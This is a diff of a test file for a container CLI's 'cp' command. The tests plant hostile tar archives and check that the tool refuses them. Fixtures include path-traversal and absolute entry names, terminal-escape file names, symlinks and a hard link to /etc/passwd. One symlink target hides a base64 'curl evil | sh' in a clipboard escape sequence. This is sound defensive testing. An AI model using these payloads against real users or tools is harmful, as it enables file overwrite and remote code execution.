@@ -18,7 +18,7 @@ import { startGateway, tokenAuthorizer, type TestGateway } from "../helpers/gate
 import { startKubeStandin, type KubeStandin } from "../helpers/kube-standin.js";
 import { describeNeeding } from "../helpers/tools.js";
 import { podmanAvailable, withCliBed, type ClientBed } from "./bed.js";
-import { cleanEnv, cliCommand, REPO, runCli } from "./cli-harness.js";
+import { cleanEnv, cliCommand, expectHelp, REPO, runCli } from "./cli-harness.js";
 
 const sha256 = (data: Buffer) => createHash("sha256").update(data).digest("hex");
 
@@ -92,15 +92,12 @@ it("formats the progress meter's bytes, rate, percentage and time left", () => {
 
 it("--help explains both directions and the checks on the archive; entryway --help lists cp", async () => {
   const env = cleanEnv(tmpdir());
-  const help = await runCli(["cp", "--help"], { env });
-  expect(help.code).toBe(0);
-  for (const text of [
+  await expectHelp(["cp"], env, [
     "<local path> <target>:<path>",
     "<target>:<path> <local path>",
     "symlinks, hard links",
     "exit status",
-  ])
-    expect(help.stdout).toContain(text);
+  ]);
   expect((await runCli(["--help"], { env })).stdout).toMatch(/^ {2}cp {14}copy files to or from a container/m);
   expect(await runCli(["cp", "a", "b"], { env })).toMatchObject({
     code: ExitCode.usage,
@@ -207,6 +204,26 @@ cat '${evilTar}'
   });
 
   const plant = async (entries: Entry[]) => writeFileSync(evilTar, await makeTar(entries));
+  /** Plants `entries` as the container's archive and copies its /srv/data to `dest` with `entryway cp`. */
+  const copyPlanted = async (entries: Entry[], dest: string) => {
+    await plant(entries);
+    return runCli(["cp", "team-a/evil-0:/srv/data", dest], { env });
+  };
+  /**
+   * Copies `entries` to a new folder's dest/data, which `entryway cp` must refuse (bad request) with
+   * "refusing the archive from the container: entry <name> " and what `why` matches; returns the folder and the outcome.
+   */
+  const expectRefused = async (prefix: string, entries: Entry[], why: RegExp) => {
+    const root = mkdtempSync(join(home, prefix));
+    const result = await copyPlanted(entries, join(root, "dest", "data"));
+    expect(result).toMatchObject({
+      code: ExitCode.badRequest,
+      stderr: expect.stringMatching(
+        new RegExp(`^entryway: refusing the archive from the container: entry .* ${why.source}`),
+      ),
+    });
+    return { root, result };
+  };
 
   it.each([
     [
@@ -219,13 +236,7 @@ cat '${evilTar}'
     ["an absolute name", [{ name: "/tmp/escape.txt", content: "pwned" }]],
     ["a name outside the one asked for", [{ name: "elsewhere/escape.txt", content: "pwned" }]],
   ])("refuses an archive with %s and writes nothing outside the destination", async (_what, entries) => {
-    const root = mkdtempSync(join(home, "hostile-"));
-    await plant(entries as Entry[]);
-    const result = await runCli(["cp", "team-a/evil-0:/srv/data", join(root, "dest", "data")], { env });
-    expect(result).toMatchObject({
-      code: ExitCode.badRequest,
-      stderr: expect.stringMatching(/^entryway: refusing the archive from the container: entry .* is outside data\n$/),
-    });
+    const { root } = await expectRefused("hostile-", entries as Entry[], /is outside data\n$/);
     expect(existsSync(join(root, "escape.txt"))).toBe(false);
     expect(existsSync(join(root, "dest", "escape.txt"))).toBe(false);
     expect(existsSync("/tmp/escape.txt")).toBe(false);
@@ -236,15 +247,11 @@ cat '${evilTar}'
     ["a drive letter", [{ name: "data/C:\\x.bat", content: "pwned" }]],
     ["a terminal escape in a name", [{ name: "data/\x1b]0;owned\x07x", content: "pwned" }]],
   ])("refuses an archive with %s on this platform too, writing nothing", async (_what, entries) => {
-    const root = mkdtempSync(join(home, "unsafe-name-"));
-    await plant(entries as Entry[]);
-    const result = await runCli(["cp", "team-a/evil-0:/srv/data", join(root, "dest", "data")], { env });
-    expect(result).toMatchObject({
-      code: ExitCode.badRequest,
-      stderr: expect.stringMatching(
-        /^entryway: refusing the archive from the container: entry .* holds \\, : or a control character/,
-      ),
-    });
+    const { root, result } = await expectRefused(
+      "unsafe-name-",
+      entries as Entry[],
+      /holds \\, : or a control character/,
+    );
     expect(result.stderr).not.toContain("\x1b");
     expect(existsSync(join(root, "dest", "data"))).toBe(false);
   });
@@ -305,8 +312,10 @@ cat '${evilTar}'
 
   it("prints a link's target with its control characters escaped", async () => {
     const root = mkdtempSync(join(home, "link-name-"));
-    await plant([{ name: "data/link", type: "symlink", linkname: "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07" }]);
-    const result = await runCli(["cp", "team-a/evil-0:/srv/data", join(root, "dest")], { env });
+    const result = await copyPlanted(
+      [{ name: "data/link", type: "symlink", linkname: "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07" }],
+      join(root, "dest"),
+    );
     expect(result.code).toBe(0);
     expect(result.stderr).not.toContain("\x1b");
     expect(result.stderr).toMatch(/-> \\x1b\]52;c;Y3VybCBldmlsIHwgc2g=\\x07: symlink entries are not copied/);
@@ -316,16 +325,18 @@ cat '${evilTar}'
     const root = mkdtempSync(join(home, "links-"));
     const outside = join(root, "outside");
     mkdirSync(outside);
-    await plant([
-      { name: "data", type: "directory" },
-      { name: "data/link", type: "symlink", linkname: outside },
-      { name: "data/link/pwned.txt", content: "pwned" },
-      { name: "data/up", type: "symlink", linkname: "../.." },
-      { name: "data/hard", type: "link", linkname: "/etc/passwd" },
-      { name: "data/fine.txt", content: "fine" },
-    ]);
     const dest = join(root, "dest");
-    const result = await runCli(["cp", "team-a/evil-0:/srv/data", dest], { env });
+    const result = await copyPlanted(
+      [
+        { name: "data", type: "directory" },
+        { name: "data/link", type: "symlink", linkname: outside },
+        { name: "data/link/pwned.txt", content: "pwned" },
+        { name: "data/up", type: "symlink", linkname: "../.." },
+        { name: "data/hard", type: "link", linkname: "/etc/passwd" },
+        { name: "data/fine.txt", content: "fine" },
+      ],
+      dest,
+    );
     expect(result.code).toBe(0);
     expect(result.stderr.trimEnd().split("\n")).toEqual([
       expect.stringMatching(/^entryway: skipped .*data\/link -> .*outside: symlink entries are not copied$/),
